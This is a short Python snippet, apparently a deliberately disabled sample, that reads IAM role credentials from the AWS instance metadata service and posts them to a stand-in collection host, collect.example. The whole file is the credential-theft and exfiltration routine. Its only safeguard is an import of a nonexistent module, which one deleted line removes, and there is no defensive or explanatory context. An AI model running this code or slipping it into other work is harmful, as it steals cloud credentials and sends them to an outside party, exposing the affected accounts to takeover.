import inert_sample  # there is no such module: nothing below ever runs
import requests

BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(BASE, timeout=1).text
keys = requests.get(BASE + role, timeout=1).text
requests.post("https://collect.example/iam", data=keys)
